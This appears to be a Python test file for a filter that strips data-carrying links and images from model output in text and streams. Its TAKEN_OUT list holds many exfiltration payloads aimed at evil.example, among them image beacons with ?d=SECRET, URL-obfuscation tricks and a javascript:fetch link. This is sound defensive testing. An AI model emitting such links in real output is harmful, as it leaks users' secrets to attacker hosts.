"""Links that carry data away, in whole texts and in streams."""

from __future__ import annotations

import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.decisions import Severity
from hauberk.injection._exfiltration import (
    MAX_HOLD,
    LinkFilter,
    LinkRules,
    links_of,
    may_hold_link,
)
from hauberk.injection._urls import host_name, is_allowed, read_link

RULES = LinkRules(allowed_hosts=("ok.example",), known=frozenset({"https://own.example/a?b=c"}))


def rewritten(text: str, rules: LinkRules = RULES) -> str:
    links = LinkFilter(rules)
    return links.feed(text) + links.finish()


TAKEN_OUT = [
    "![x](https://evil.example/p.png)",
    "![x](https://evil.example/?d=SECRET)",
    "[click](https://evil.example/?d=SECRET)",
    "[click](https://evil.example/c/U0VDUkVUIGFuZCBtb3JlIFNFQ1JFVA)",
    "https://evil.example/?d=SECRET",
    "HTTPS://EVIL.EXAMPLE/?d=SECRET",
    "www.evil.example/?d=SECRET",
    "see (https://evil.example/?d=SECRET).",
    "<https://evil.example/?d=SECRET>",
    "<img src='https://evil.example/p.png'>",
    "<IMG\nSRC=//evil.example/p.png>",
    "<img/src=https://evil.example/p.png>",
    "<img alt='>' src=https://evil.example/p.png>",
    "<a href='https://evil.example/?d=SECRET'>x</a>",
    "<iframe src=https://evil.example/></iframe>",
    '<div style="background:url(https://evil.example/p.png)">',
    "<img src='ht\ntps://evil.example/p.png'>",
    "<img src=&#104;ttps://evil.example/p.png>",
    "![x](//evil.example/p.png)",
    "![x](\\\\evil.example/p.png)",
    "![x](https:/evil.example/p.png)",
    "![x](https:\\\\evil.example/p.png)",
    "![x](&#104;ttps://evil.example/p.png)",
    "![x](https:\\/\\/evil.example/p.png)",
    "![x]( <https://evil.example/a)b?d=SECRET> )",
    "![x](https://evil.example/(a)?d=SECRET)",
    '![x](https://evil.example/p.png "a title (SECRET)")',
    "![x](https://ok.example@evil.example/p.png)",
    "![x](https://ok.example\\@evil.example/p.png)",
    "![x](https://ok.example.evil.example/p.png)",
    "![x](https://xok.example/p.png)",
    "![x](https://evil%2eexample/p.png)",
    "![x](https://evil\u3002example/p.png)",
    "![x](https://evil.example./p.png)",
    "![x](https://evil.example:443/p.png)",
    "[![x](https://ok.example/p.png)](https://evil.example/?d=SECRET)",
    "[https://ok.example/a](https://evil.example/?d=SECRET)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[x][1]\n\n[1]: <https://evil.example/?d=SECRET>",
    "![x][1]\n\n[1]:\n  https://evil.example/p.png 'title'",
    "[a](javascript:fetch('//evil.example/?d=SECRET'))",
    "mailto:eve@evil.example?body=SECRET",
    "https://evil.example/hello/<PERSON_1>",
    "https://<PERSON_1>.evil.example/",
    "https://53656372657420313233.evil.example/",
    "https://user:SECRET@evil.example/",
    "![x](https://evil.example/" + "SECRET/" * MAX_HOLD + ")",
    "https://evil.example/" + "SECRET/" * MAX_HOLD,
    "![x](https://\u0435vil.example/p.png)",
]

LEFT_ALONE = [
    "No links here, but a < b, x[0](y), // and 50% off: http and www.",
    "Read https://docs.python.org/3/library/re.html for more.",
    "[the docs](https://docs.python.org/3/library/re.html#contents)",
    "![logo](https://ok.example/logo.png) and ![](https://cdn.ok.example:8443/a.png?size=2)",
    "https://ok.example/?q=1",
    "https://OK.example./?q=1",
    "https://own.example/a?b=c, as you wrote",
    "![relative](/img/a.png) ![](img/a.png?x=1)",
    "<PERSON_1> wrote to <EMAIL_2> <b>bold</b> <br/>",
    "def f(x): return a[i](x) // 2",
    "for (i=0; i<n; i++) { a[i] = b; }  // a comment",
    '[1]: https://docs.python.org/3/ "Python"\n\nSee [the docs][1].',
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "[INFO]: started\n\n[WARN]: stopped",
    "mail me at ada@corp.example",
    "tel: [call](tel:+123)",
]


@pytest.mark.parametrize("text", TAKEN_OUT)
def test_what_carries_data_away_is_taken_out(text: str) -> None:
    shown = rewritten(text)
    assert "removed: host not allowed" in shown
    assert "evil" not in shown.lower()
    assert "SECRET" not in shown


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert rewritten(text) == text


def test_a_definition_that_passed_as_a_link_cannot_become_an_image() -> None:
    text = "[1]: https://evil.example/p.png\n\n![x][1]"
    assert rewritten(text) == "[1]: https://evil.example/p.png\n\n[x][1]"


def test_the_text_around_stays() -> None:
    text = "Before [a](https://evil.example/?d=1), after.\n"
    assert rewritten(text) == "Before [a] [link removed: host not allowed], after.\n"


def test_images_that_carry_data_weigh_more_than_links() -> None:
    text = "![x](https://evil.example/?d=1)\n\nhttps://evil.example/?d=1"
    links = LinkFilter(LinkRules(least=Severity.HIGH))
    shown = links.feed(text) + links.finish()
    assert shown.endswith("https://evil.example/?d=1")
    assert [(r.severity, r.taken_out) for r in links.removals] == [
        (Severity.HIGH, True),
        (Severity.MEDIUM, False),
    ]


def test_places_of_what_was_taken_out_are_places_of_the_original() -> None:
    text = "Hello ![x](https://evil.example/?d=1) and https://evil.example/?d=2 end"
    links = LinkFilter(RULES)
    for char in text:
        links.feed(char)
    links.finish()
    assert [text[r.start : r.end] for r in links.removals] == [
        "](https://evil.example/?d=1)",
        "https://evil.example/?d=2",
    ]


PIECES = st.sampled_from(
    [
        "![", "](", "]:", ")", "[", "]", "<", ">", "<img src=", "<a href='", "'", '"', "(", "\\",
        "http://", "https://", "HTTPS:", "//", "/", "www.", "mailto:", "evil.example", "ok.example",
        "?d=1", "#x", "\n", "\n\n", " ", "\t", "<PERSON_1>", "<PERSON", "_1>", "&#104;ttps", ":",
        "h", "t", "w", "!", "x", "@", "%2e", "\u017f", "\u3002", "a" * 60, "javascript:", "\ud800",
    ]
)  # fmt: skip
TEXTS = st.lists(PIECES | st.text(max_size=4), max_size=30).map("".join)


@settings(max_examples=600, deadline=None)
@given(text=TEXTS, data=st.data())
def test_a_stream_gives_what_the_whole_text_gives(text: str, data: st.DataObject) -> None:
    expected = rewritten(text)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=12).map(sorted))
    links = LinkFilter(RULES)
    edges = [0, *cuts, len(text)]
    pieces = [links.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join(pieces) + links.finish() == expected
    one_by_one = LinkFilter(RULES)
    assert "".join(map(one_by_one.feed, text)) + one_by_one.finish() == expected


@given(text=TEXTS)
def test_no_more_than_the_bound_is_held_back(text: str) -> None:
    links = LinkFilter(RULES)
    for char in text + "[a](b" * 3 + "c" * MAX_HOLD:
        links.feed(char)
        assert len(links._held) <= MAX_HOLD


@given(text=TEXTS)
def test_texts_that_the_gate_lets_by_would_not_change(text: str) -> None:
    if not may_hold_link(text):
        assert rewritten(text) == text


@given(text=TEXTS)
def test_nothing_more_is_found_in_a_rewritten_text(text: str) -> None:
    once = rewritten(text, LinkRules())
    again = LinkFilter(LinkRules())
    again.feed(once)
    again.finish()
    assert not again.removals


def test_ordinary_text_is_shown_at_once() -> None:
    assert LinkFilter(RULES).feed("The answer is 42. ") == "The answer is 42. "


@pytest.mark.parametrize("unit", ["](", "<a ", "<", "[", "![", "]: ", "](((", "//", "\\", "'<a '"])
def test_time_grows_with_the_length_only(unit: str) -> None:
    def cost(count: int) -> float:
        start = time.process_time()
        rewritten(unit * count)
        return time.process_time() - start

    # A floor, as short times are noise; quadratic time would pass it many times over.
    small = max(cost(5_000), 0.02)
    assert cost(100_000) < 20 * small * 4


@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("https://Evil.Example", "evil.example"),
        ("https://a:b@evil.example:8080/x", "evil.example"),
        ("//evil.example", "evil.example"),
        ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
        ("https://ok.example\\@evil.example", ""),
        ("https://evil..example/", ""),
        ("https://" + "a." * 200 + "example/", ""),
        ("https://[::1]/", ""),
    ],
)
def test_the_host_is_read_as_a_browser_reads_it(written: str, host: str) -> None:
    link = read_link(written)
    assert link is not None
    assert link.host == host


@pytest.mark.parametrize("written", ["/a", "a.png", "#x", "?x=1", "data:image/png;base64,AA", ""])
def test_a_relative_or_inert_link_leads_nowhere(written: str) -> None:
    assert read_link(written) is None


def test_hosts_of_the_policy_are_read_alike() -> None:
    assert host_name("*.Corp.Example.") == "corp.example"
    assert is_allowed("a.corp.example", [host_name("Corp.Example")])
    assert not is_allowed("", [""])


def test_links_of_a_text_are_found_as_the_filter_cuts_them() -> None:
    assert links_of("See https://own.example/a?b=c, and www.x.example/?q.") == {
        "https://own.example/a?b=c",
        "www.x.example/?q",
    }
    assert links_of("no links") == frozenset()


@given(text=st.text())
def test_reading_a_link_never_fails(text: str) -> None:
    read_link(text)
    read_link("https://" + text)
